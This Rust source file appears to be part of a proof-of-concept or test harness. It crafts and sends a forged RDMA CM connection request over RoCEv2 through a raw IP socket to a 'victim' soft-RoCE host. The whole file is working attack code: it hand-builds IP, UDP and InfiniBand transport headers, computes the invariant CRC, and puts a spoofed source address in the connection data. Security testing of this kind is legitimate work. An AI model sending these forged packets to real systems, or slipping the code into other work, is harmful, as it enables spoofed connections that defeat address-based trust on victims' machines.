// SPDX-License-Identifier: GPL-2.0
//! A connection request that no CM sends: it claims to come from another address than its path. It
//! goes to the victim's soft-RoCE as a datagram, so it must come from another machine.

use crate::cm::errno_fail;
use crate::fail::{expect, Result};
use crate::session::{hello, POSTED};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::process;

/// The numbers of bytes of a management datagram and of its header.
const MAD: usize = 256;
const MAD_HEADER: usize = 24;
/// The UDP port of RoCEv2.
const ROCE_PORT: u16 = 4791;

/// Sends the victim at `to` a request whose path leads to `own`, the address of this machine, and
/// that claims to come from `claimed`.
pub(crate) fn forge(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> Result<()> {
    let packet = packet(own, *to.ip(), &request(to, own, claimed));
    // SAFETY: plain numbers.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(errno_fail("socket"));
    }
    // SAFETY: the descriptor is new and ours.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    let raw = libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(to.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: the packet and the address are valid.
    let sent = unsafe {
        libc::sendto(
            sock.as_raw_fd(),
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (&raw const raw).cast(),
            size_of_val(&raw) as u32,
        )
    };
    if sent < 0 {
        return Err(errno_fail("sendto"));
    }
    expect(sent == packet.len() as isize, || {
        format!("{sent} of {} bytes are sent", packet.len())
    })
}

fn put(to: &mut [u8], at: usize, bytes: &[u8]) {
    to[at..at + bytes.len()].copy_from_slice(bytes);
}

/// The request (REQ of the InfiniBand CM, `include/rdma/ibta_vol1_c12.h` in the kernel), with the
/// private data of the RDMA CM (`struct cma_hdr`) and a valid Hello.
fn request(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> [u8; MAD] {
    const RDMA_PS_TCP: u64 = 0x0106;
    let mut mad = [0; MAD];
    // Version 1, the class of the CM in version 2, the method Send.
    put(&mut mad, 0, &[1, 7, 2, 3]);
    let number = process::id();
    put(&mut mad, 8, &u64::from(number).to_be_bytes());
    // The attribute of a request.
    put(&mut mad, 16, &0x0010_u16.to_be_bytes());

    let mut req = [0; MAD - MAD_HEADER];
    // The ids of the connection and of the machine, and the number of the queue pair in 24 bits.
    put(&mut req, 0, &number.to_be_bytes());
    let service = (RDMA_PS_TCP << 16) | u64::from(to.port());
    put(&mut req, 8, &service.to_be_bytes());
    put(&mut req, 16, &0xbad_u64.to_be_bytes());
    put(&mut req, 32, &((number << 8) | 1).to_be_bytes());
    // The number of Reads at a time.
    req[39] = 1;
    // The time-outs for answers, and numbers of retries, as bit fields.
    req[43] = 20 << 3;
    req[47] = (20 << 3) | 6;
    // The partition, the packet size (1024 bytes), and more numbers of retries.
    put(&mut req, 48, &[0xff, 0xff, (3 << 4) | 7, 15 << 4]);
    // The path from this machine to the victim, within a subnet.
    put(&mut req, 56, &own.to_ipv6_mapped().octets());
    put(&mut req, 72, &to.ip().to_ipv6_mapped().octets());
    put(&mut req, 93, &[64, 1 << 3, 18 << 3]);
    // IP version 4, the port of this side, and the addresses, each in the last 4 bytes of 16.
    let private = 140;
    put(&mut req, private + 1, &[4 << 4]);
    put(&mut req, private + 2, &4711_u16.to_be_bytes());
    put(&mut req, private + 16, &claimed.octets());
    put(&mut req, private + 32, &to.ip().octets());
    put(&mut req, private + 36, &hello(POSTED).encode());
    put(&mut mad, MAD_HEADER, &req);
    mad
}

/// The whole IP packet of a datagram from queue pair 1 to queue pair 1.
fn packet(from: Ipv4Addr, to: Ipv4Addr, mad: &[u8; MAD]) -> Vec<u8> {
    // IP, UDP, the headers of a datagram (BTH, DETH), the payload, and the checksum.
    const LEN: usize = 20 + 8 + 12 + 8 + MAD + 4;
    let mut ip = [0; 20];
    put(&mut ip, 0, &[0x45, 0]);
    put(&mut ip, 2, &(LEN as u16).to_be_bytes());
    // An identification, and no fragments.
    put(&mut ip, 4, &[0x5d, 0xb0, 0x40, 0]);
    put(&mut ip, 8, &[64, libc::IPPROTO_UDP as u8]);
    put(&mut ip, 12, &from.octets());
    put(&mut ip, 16, &to.octets());
    let mut udp = [0; 8];
    put(&mut udp, 0, &0xc000_u16.to_be_bytes());
    put(&mut udp, 2, &ROCE_PORT.to_be_bytes());
    put(&mut udp, 4, &((LEN - 20) as u16).to_be_bytes());
    // A single datagram, in the default partition, for queue pair 1.
    let bth = [0x64, 0, 0xff, 0xff, 0, 0, 0, 1, 0, 0, 0, 0];
    // The key of queue pair 1, and queue pair 1 as the sender.
    let deth = [0x80, 1, 0, 0, 0, 0, 0, 1];
    let check = invariant_crc(&ip, &udp, &bth, &[&deth, mad]);
    [&ip[..], &udp, &bth, &deth, mad, &check.to_le_bytes()].concat()
}

/// The checksum of the fields that routers do not change (ICRC). Fields that routers may change
/// count as ones, and eight bytes of ones precede the packet.
fn invariant_crc(ip: &[u8; 20], udp: &[u8; 8], bth: &[u8; 12], rest: &[&[u8]]) -> u32 {
    let (mut ip, mut udp, mut bth) = (*ip, *udp, *bth);
    // The traffic class, the time to live, the checksums, and a reserved byte.
    for at in [1, 8, 10, 11] {
        ip[at] = 0xff;
    }
    put(&mut udp, 6, &[0xff; 2]);
    bth[4] = 0xff;
    let headers: [&[u8]; 4] = [&[0xff; 8], &ip, &udp, &bth];
    let bytes = headers.iter().chain(rest).flat_map(|part| part.iter());
    !bytes.fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            (crc >> 1) ^ if crc & 1 == 1 { 0xedb8_8320 } else { 0 }
        })
    })
}
